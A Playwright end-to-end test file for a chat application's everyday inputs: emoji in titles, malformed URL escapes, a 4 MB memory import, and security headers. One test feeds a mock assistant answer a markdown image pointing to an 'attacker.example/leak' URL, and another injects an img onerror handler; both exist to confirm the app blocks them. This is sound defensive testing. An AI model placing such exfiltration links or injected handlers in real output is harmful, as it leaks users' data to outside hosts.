import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { expect, test } from "@playwright/test";
import { mockUrl, register, uniqueEmail } from "./helpers";

test.describe("everyday input", () => {
  test("a first message with an emoji at the title's cut point is answered and titled", async ({ page }) => {
    await register(page, uniqueEmail("emoji"));
    const text = `${"a".repeat(56)}😀 then the rest of a perfectly ordinary first message`;
    await page.getByLabel("Message", { exact: true }).fill(text);
    await page.keyboard.press("Enter");
    await expect(page.getByTestId("message-assistant").first()).toHaveAttribute("data-status", "complete");
    await expect(page.getByTestId("message-user").first()).toContainText("😀 then the rest");
    await page.reload();
    await expect(page.getByTestId("message-user").first()).toContainText("😀 then the rest");
  });

  test("malformed % escapes in links give a page, never a server error", async ({ page }) => {
    await register(page, uniqueEmail("escapes"));
    for (const url of [
      "/c/%E0%A4%A",
      "/c/abc%zz",
      "/%",
      "/settings/memory?q=%E0%A4",
      "/settings/memory?q=%",
      "/admin/audit?q=%ZZ",
      "/?x=%",
    ]) {
      const res = await page.goto(url);
      expect(res?.status() ?? 0, url).toBeLessThan(500);
    }
    const api = await page.request.get("/api/memories/export?format=%E0");
    expect(api.status()).toBeLessThan(500);
  });

  test("an image in an answer is shown as a link and never fetched; pages carry security headers", async ({ page }) => {
    await register(page, uniqueEmail("img"));
    const fetched: string[] = [];
    page.on("request", (r) => {
      if (r.url().includes("attacker.example")) fetched.push(r.url());
    });
    await fetch(`${mockUrl()}/__mock/replies`, {
      method: "POST",
      body: JSON.stringify({
        replies: [{ match: "show me a picture", content: "Here: ![chart](https://attacker.example/leak?q=secret)" }],
      }),
    });
    await page.getByLabel("Message", { exact: true }).fill("show me a picture");
    await page.keyboard.press("Enter");
    await expect(page.getByTestId("image-link")).toContainText("chart (attacker.example, not loaded)");
    expect(fetched).toEqual([]);
    const res = await page.request.get("/");
    const csp = res.headers()["content-security-policy"];
    expect(csp).toContain("img-src 'self'");
    expect(res.headers()["x-content-type-options"]).toBe("nosniff");
    expect(res.headers()["x-frame-options"]).toBe("DENY");
    // Scripts need this response's nonce: no 'unsafe-inline', and the nonce changes per response.
    const nonce = /script-src [^;]*'nonce-([^']+)'/.exec(csp)?.[1];
    expect(nonce).toBeTruthy();
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect((await res.text()).match(/<script[^>]*nonce="([^"]+)"/)?.[1]).toBe(nonce);
    const again = (await page.request.get("/")).headers()["content-security-policy"];
    expect(/'nonce-([^']+)'/.exec(again)?.[1]).not.toBe(nonce);
    // Injected markup's inline handlers do not run under that policy (the way injected HTML would attack).
    const ran = await page.evaluate(async () => {
      const div = document.createElement("div");
      div.innerHTML = '<img src="/no-such-image.png" onerror="window.__injected = true">';
      document.body.appendChild(div);
      await new Promise((r) => setTimeout(r, 500));
      return (window as unknown as { __injected?: boolean }).__injected === true;
    });
    expect(ran).toBe(false);
  });

  test("a 4 MB memories file imports, all of it, with the report counting what was stored", async ({ page }) => {
    test.setTimeout(300_000);
    await register(page, uniqueEmail("bigimport"));
    // Multi-byte text (3 bytes a character in UTF-8) makes 2,800 entries about 4 MB.
    const memories = Array.from({ length: 2800 }, (_, i) => ({ text: `Fact ${i}: ${"記憶のテストです".repeat(60)}` }));
    const file = path.join(os.tmpdir(), `mnemo-import-${Date.now()}.json`);
    fs.writeFileSync(file, JSON.stringify({ format: "mnemo-memories", version: 1, memories }));
    expect(fs.statSync(file).size).toBeGreaterThan(3_900_000);
    await page.goto("/settings/data");
    await page.getByLabel("Memories file to import").setInputFiles(file);
    await expect(page.getByRole("status").filter({ hasText: "Imported" })).toContainText("Imported 2,800 memories", {
      timeout: 280_000,
    });
    fs.rmSync(file);
  });
});
